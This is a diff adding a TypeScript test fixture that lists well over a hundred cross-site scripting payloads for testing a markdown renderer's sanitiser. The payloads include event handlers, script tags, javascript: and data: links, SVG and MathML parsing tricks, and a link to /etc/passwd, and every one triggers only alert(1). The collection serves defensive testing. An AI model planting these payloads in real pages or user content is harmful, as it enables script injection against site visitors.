@@ -1,0 +1,266 @@
+/**
+ * Texts that try to run a script, for tests of the pipeline and of the browser.
+ * Each calls `alert(1)`, where a renderer without sanitiser lets it: at once (`load`) or when a reader clicks what it shows (`click`). `refused` are such as a
+ * present-day browser refuses by itself, or that need a careless library: they are kept because browsers and libraries change.
+ */
+export interface InjectionVector {
+  readonly name: string;
+  readonly markdown: string;
+  readonly fires: 'load' | 'click' | 'refused';
+}
+
+type Table = Readonly<Record<string, string>>;
+
+const vectors = (fires: InjectionVector['fires'], table: Table): InjectionVector[] =>
+  Object.entries(table).map(([name, markdown]) => ({ name, markdown, fires }));
+
+const image = '<img src=x onerror=alert(1)>';
+
+const handlers: Table = {
+  'image, error handler': image,
+  'image, upper case': '<IMG SRC=x ONERROR=alert(1)>',
+  'image, tab before the equals sign': '<img src=x onerror\t=\talert(1)>',
+  'image, handler in entities': '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
+  'image, handler in hexadecimal entities': '<img src=x onerror="&#x61;lert&lpar;1&rpar;">',
+  'image, handler with unicode escape': '<img src=x onerror="\\u0061lert(1)">',
+  'image, first of two equal handlers': '<img src=x onerror=alert(1) onerror=void(0)>',
+  'image, no closing bracket': '<div><img src=x onerror=alert(1) </div>',
+  'image, quote in an attribute name': '<img """><img src=x onerror="alert(1)">',
+  'image, empty address': '<img src onerror=alert(1)>',
+  'image, data address that loads':
+    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=alert(1) onerror=alert(1)>',
+  'image by its old name': '<image src=x onerror=alert(1)>',
+  'image in a picture': '<picture><source srcset=x><img onerror=alert(1)></picture>',
+  'image, source set': '<img srcset=x onerror=alert(1)>',
+  video: '<video src=x onerror=alert(1)></video>',
+  'video source': '<video><source onerror=alert(1) src=x></video>',
+  audio: '<audio src=x onerror=alert(1)></audio>',
+  'audio source': '<audio><source onerror=alert(1) src=x></audio>',
+  'video, load start': '<video onloadstart=alert(1) src=x></video>',
+  'frame, load handler': '<iframe onload=alert(1)></iframe>',
+  'frame, upper case': '<IFRAME ONLOAD=alert(1)></IFRAME>',
+  body: '<body onload=alert(1)>',
+  'body, page shown': '<body onpageshow=alert(1)>',
+  details: '<details open ontoggle=alert(1)>x</details>',
+  'details with summary': '<details open ontoggle="alert(1)"><summary>x</summary>y</details>',
+  'input, focus': '<input autofocus onfocus=alert(1)>',
+  'select, focus': '<select autofocus onfocus=alert(1)></select>',
+  'text area, focus': '<textarea autofocus onfocus=alert(1)></textarea>',
+  'button, focus': '<button autofocus onfocus=alert(1)>x</button>',
+  'link, focus': '<a href=# autofocus onfocus=alert(1)>x</a>',
+  'editable block, focus': '<div contenteditable autofocus onfocus=alert(1)>x</div>',
+  'focusable block': '<p tabindex=0 autofocus onfocus=alert(1)>x</p>',
+  'focus comes in': '<div onfocusin=alert(1)><input autofocus></div>',
+  'animation by style': '<style>@keyframes x{}</style><b style="animation:x" onanimationstart=alert(1)>x</b>',
+  'animation end by style':
+    '<style>@keyframes y{}</style><b style="animation:y 1ms" onanimationend=alert(1)>x</b>',
+  'style sheet, load handler': '<style onload=alert(1)></style>',
+  'style sheet link, error handler': '<link rel=stylesheet href=x: onerror=alert(1)>',
+  'style sheet link, load handler': '<link rel=stylesheet href=data:text/css, onload=alert(1)>',
+  'unknown element, focus': '<x-y tabindex=0 autofocus onfocus=alert(1)>x</x-y>',
+};
+
+const scripts: Table = {
+  script: '<script>alert(1)</script>',
+  'script, upper case': '<SCRIPT>alert(1)</SCRIPT>',
+  'script, blank in the closing tag': '<script>alert(1)</script >',
+  'script in a line of text': 'text <script>alert(1)</script> text',
+  'script in a quote': '> <script>alert(1)</script>',
+  'script in a list': '- <script>alert(1)</script>',
+  'script in a table': '| a |\n|---|\n| <script>alert(1)</script> |',
+  'script in a heading': '# <script>alert(1)</script>',
+  'script in a footnote': 'x[^1]\n\n[^1]: <script>alert(1)</script>',
+  'script after front matter': '---\ntitle: x\n---\n\n<script>alert(1)</script>',
+  'script in front matter': '---\ntitle: <script>alert(1)</script>\n---\n\nx',
+  'script, error handler': '<script src=x: onerror=alert(1)></script>',
+  'script by data address': '<script src=data:text/javascript,alert(1)></script>',
+  'script by base64 address': '<script src="data:text/javascript;base64,YWxlcnQoMSk="></script>',
+  'module script': '<script type=module>alert(1)</script>',
+  'script, odd type':
+    '<script type="text/javascript; charset=utf-8" language=x></script><script>alert(1)</script>',
+  'script across blank lines': '<script>\n\nalert(1)\n\n</script>',
+  'script within a comment trick': '<!--><script>alert(1)</script>-->',
+  'script after an odd comment end': '<!-- x --!><script>alert(1)</script>',
+  'script in an svg': '<svg><script>alert(1)</script></svg>',
+  'script in an svg with entities': '<svg><script>&#97;lert(1)</script></svg>',
+  'script in math': '<math><script>alert(1)</script></math><script>alert(1)</script>',
+};
+
+const frames: Table = {
+  'frame, javascript address': '<iframe src=javascript:alert(1)></iframe>',
+  'frame, javascript address in entities': '<iframe src="&#106;avascript:alert(1)"></iframe>',
+  'frame, javascript address with tab': '<iframe src="java&Tab;script:alert(1)"></iframe>',
+  'frame, document in an attribute': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'frame, document in entities': '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
+  'frame, data address': '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
+  'frame, base64 address':
+    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
+  'object, data address': '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  'embed, data address': '<embed src="data:text/html,<script>alert(1)</script>">',
+  'embed, svg in a data address':
+    '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
+  'object, svg in a data address':
+    "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\"></object>",
+};
+
+const foreign: Table = {
+  'svg, load handler': '<svg onload=alert(1)>',
+  'svg, upper case': '<SVG ONLOAD=alert(1)></SVG>',
+  'svg animation': '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
+  'svg set': '<svg><set onbegin=alert(1) attributeName=x dur=1s></svg>',
+  'svg animated transform': '<svg><animateTransform onbegin=alert(1) attributeName=transform dur=1s></svg>',
+  'svg animated motion': '<svg><animateMotion onbegin=alert(1) dur=1s></svg>',
+  'svg animation end': '<svg><animate onend=alert(1) attributeName=x dur=1ms></svg>',
+  'svg image': '<svg><image href=x: onerror=alert(1)></svg>',
+  'svg with foreign content': `<svg><foreignObject>${image}</foreignObject></svg>`,
+  'svg with a text element': `<svg><desc>${image}</desc></svg>`,
+  'svg title': `<svg><title>${image}</title></svg>`,
+  'svg broken out by a paragraph': `<svg><p>${image}</p></svg>`,
+  'math with text': `<math><mtext>${image}</mtext></math>`,
+  'math annotation': `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
+  'math, nested foster parents': `<math><mtext><table><mglyph><style><!--</style>${image}--></style></mglyph></table></mtext></math>`,
+  'style in an svg': `<svg><style>${image}</style></svg>`,
+  'style in math': `<math><style>${image}</style></math>`,
+  'character data in an svg': `<svg><![CDATA[><img ]]>${image}</svg>`,
+};
+
+const parsing: Table = {
+  'formula with markup': '$\\text{<img src=x onerror=alert(1)>}$',
+  'formula that is wrong': '$\\x{<img src=x onerror=alert(1)>$',
+  'attribute that ends noscript': `<noscript><p title="</noscript>${image}">`,
+  'attribute that ends a text area': `<textarea><p title="</textarea>${image}">`,
+  'attribute that ends a title': `<title><p title="</title>${image}">`,
+  'attribute that ends raw text': `<xmp><p title="</xmp>${image}">`,
+  'attribute that ends a style': `<style><p title="</style>${image}">`,
+  'attribute that ends a comment': `<!-- <p title="-->${image}">`,
+  'attribute that ends a frame': `<iframe><p title="</iframe>${image}">`,
+  'shadow root': `<div><template shadowrootmode=open>${image}</template></div>`,
+  'form within a form': `<form><math><mtext></form><form>${image}</mtext></math></form>`,
+  'table with foster parent': `<table><b>${image}</b></table>`,
+  'bogus comment': `<!x>${image}`,
+  'processing instruction': `<?x >${image}`,
+  'character data outside svg': `<![CDATA[ x >${image}]]>`,
+  'nul in a tag name': `<\u0000b>x</b>${image}`,
+  'image in a link text': `[${image}](http://example.com)`,
+  'image in emphasis': `**${image}**`,
+  'image in a definition': `[a]: http://example.com "x"\n\n[a] ${image}`,
+  'image in a task': `- [ ] ${image}`,
+  'image in a table': `| a |\n|---|\n| ${image} |`,
+  'image in a footnote': `x[^a]\n\n[^a]: ${image}`,
+  'image behind a broken fence': `~~~x\ny\n~~~\n${image}`,
+  'image behind a broken comment': `<!--\nx\n-->\n${image}`,
+  'image after a heading': `# x\n${image}`,
+};
+
+const refusedByBrowsers: Table = {
+  'image, slashes for blanks': '<img/src=x/onerror=alert(1)>',
+  'image, line breaks in the tag': '<img\nsrc=x\nonerror=alert(1)\n>',
+  'image, broken quotes': '<img src="x` `" onerror="alert(1)"">',
+  'frame, closed by itself': '<iframe/onload=alert(1) />',
+  'object, error handler': '<object data=x: onerror=alert(1)></object>',
+  marquee: '<marquee onstart=alert(1)>x</marquee>',
+  'script, slash in the opening tag': '<script/x>alert(1)</script>',
+  'script in an svg by address': '<svg><script href=data:text/javascript,alert(1) /></svg>',
+  'script in an svg by old address': '<svg><script xlink:href=data:text/javascript,alert(1) /></svg>',
+  'svg, slash for blank': '<svg/onload=alert(1)>',
+  'link, tab in the scheme': '[x](java&Tab;script:alert(1))',
+  'link, line break in the scheme': '[x](java&NewLine;script:alert(1))',
+  'link, tab as number': '[x](java&#9;script:alert(1))',
+  'link, carriage return in the scheme': '[x](java&#13;script:alert(1))',
+  'link, control character before': '[x](&#1;javascript:alert(1))',
+  'link, blanks before': '[x](<  javascript:alert(1)>)',
+  'quote in a picture title': '![x](x "\\" onerror=alert(1) x=\\"")',
+  'quote in a picture text': '!["onerror="alert(1)](x)',
+  'quote in a link title': '[x](http://example.com "\\" onmouseover=alert(1) x=\\"")',
+  'quote in a link address': '[x](<http://example.com/"onmouseover="alert(1)>)',
+  'quote in an autolink': 'http://example.com/"onmouseover="alert(1)',
+  'language of a code block': '```"onmouseover="alert(1)\nx\n```',
+  'script in a code block': '```html\n<script>alert(1)</script>\n```',
+  'script in a code span': '`<script>alert(1)</script>`',
+  'script in a diagram': '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
+  'diagram with a link': '```mermaid\ngraph TD; A-->B\nclick A "javascript:alert(1)"\n```',
+  'diagram with a call': '```mermaid\ngraph TD; A-->B\nclick A call alert(1)\n```',
+  'diagram that sets its own security':
+    '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
+  'formula with a link': '$\\href{javascript:alert(1)}{x}$',
+  'formula with an address': '$\\url{javascript:alert(1)}$',
+  'formula with a data attribute': '$\\htmlData{x=1 onclick=alert(1)}{x}$',
+  'formula with a class': '$\\htmlClass{"onclick=alert(1)}{x}$',
+  'formula with an id': '$\\htmlId{root}{x}$',
+  'formula with a style': '$\\htmlStyle{background:url(javascript:alert(1))}{x}$',
+  'formula with a picture': '$$\\includegraphics{javascript:alert(1)}$$',
+  'footnote that takes an id': 'x[^root]\n\n[^root]: y',
+  'heading that takes an id': '# root\n\n# __proto__\n\n# constructor\n\n# state',
+  'name that takes a property':
+    '<form name=body><input name=firstChild></form><a id=location name=location>x</a>',
+  'style with an expression': '<div style="width:expression(alert(1))">x</div>',
+  'style with a binding': '<div style="background:url(javascript:alert(1))">x</div>',
+  'base address': '<base href="javascript:alert(1)//"><a href=x>x</a>',
+  refresh: '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  'picture by javascript address': '![x](javascript:alert(1))',
+  'picture by data address': '![x](data:text/html,<script>alert(1)</script>)',
+  'link to a data document': '[x](data:text/html,<script>alert(1)</script>)',
+  'link to a data document in base64': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  'link by vbscript': '[x](vbscript:msgbox(1))',
+  'link to a local file': '[x](file:///etc/passwd)',
+  'link to a blob': '[x](blob:https://example.com/1)',
+  'link by view-source': '[x](view-source:javascript:alert(1))',
+};
+
+const links: Table = {
+  link: '[x](javascript:alert(1))',
+  'link, mixed case': '[x](JaVaScRiPt:alert(1))',
+  'link, in angle brackets': '[x](<javascript:alert(1)>)',
+  'link by definition': '[x]\n\n[x]: javascript:alert(1)',
+  'link by definition, with title': '[x][y]\n\n[y]: javascript:alert(1) "z"',
+  autolink: '<javascript:alert(1)>',
+  'autolink, mixed case': '<JavaScript:alert(1)>',
+  'link, scheme in entities': '[x](&#106;&#97;vascript:alert(1))',
+  'link, scheme in hexadecimal entities': '[x](&#x6A;avascript:alert(1))',
+  'link, scheme in long entities': '[x](&#0000106;avascript:alert(1))',
+  'link, colon as entity': '[x](javascript&colon;alert(1))',
+  'link, colon as number': '[x](javascript&#58;alert(1))',
+  'link, escaped colon': '[x](javascript\\:alert(1))',
+  'link, comment and line break': '[x](javascript://example.com/%0aalert(1))',
+  'link, code in per cent signs': '[x](javascript:%61lert(1))',
+  'link, by property': "[x](javascript:window['alert'](1))",
+  'link, with void': '[x](javascript:void(alert(1)))',
+  'link with a title': '[x](javascript:alert(1) "title")',
+  'link around a picture': '[![x](/uploads/x.png)](javascript:alert(1))',
+  'link around emphasis': '[**x**](javascript:alert(1))',
+  'link around code': '[`x`](javascript:alert(1))',
+  'link in a table': '| a |\n|---|\n| [x](javascript:alert(1)) |',
+  'link in a heading': '# [x](javascript:alert(1))',
+  'link in a quote in a list': '- > [x](javascript:alert(1))',
+  'link in a footnote': 'y[^1]\n\n[^1]: [x](javascript:alert(1))',
+  'link in struck text': '~~[x](javascript:alert(1))~~',
+  'html link': '<a href="javascript:alert(1)">x</a>',
+  'html link, no quotes': '<a href=javascript:alert(1)>x</a>',
+  'html link, upper case': '<A HREF="JAVASCRIPT:alert(1)">x</A>',
+  'html link, entity without semicolon': '<a href="&#106avascript:alert(1)">x</a>',
+  'html link, line break': '<a href="java\nscript:alert(1)">x</a>',
+  'html link, click handler': '<a href="#" onclick="alert(1)">x</a>',
+  'html link, mouse down': '<a href="#" onmousedown="alert(1)">x</a>',
+  'html link, pointer': '<a href="#" onpointerdown="alert(1)">x</a>',
+  'html block, click handler': '<button onclick=alert(1)>x</button>',
+  form: '<form action="javascript:alert(1)"><button>x</button></form>',
+  'form, post': '<form action="javascript:alert(1)" method=post><button>x</button></form>',
+  'form, submit handler': '<form onsubmit=alert(1)><button>x</button></form>',
+  'button with an address': '<form><button formaction="javascript:alert(1)">x</button></form>',
+  'input with an address': '<form><input type=submit formaction="javascript:alert(1)"></form>',
+  summary: '<details ontoggle=alert(1)><summary>x</summary></details>',
+  label: '<label onclick=alert(1)>x<input type=checkbox></label>',
+  popover: '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>y</div>',
+  'svg link': '<svg width=99 height=99><a href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  'svg link, old address':
+    '<svg width=99 height=99><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+  'svg link, rectangle':
+    '<svg width=99 height=99><a href="javascript:alert(1)"><rect width=99 height=99 /></a></svg>',
+};
+
+/** All of them; names are unique. */
+export const injectionVectors: readonly InjectionVector[] = [
+  ...vectors('load', { ...handlers, ...scripts, ...frames, ...foreign, ...parsing }),
+  ...vectors('click', links),
+  ...vectors('refused', refusedByBrowsers),
+];
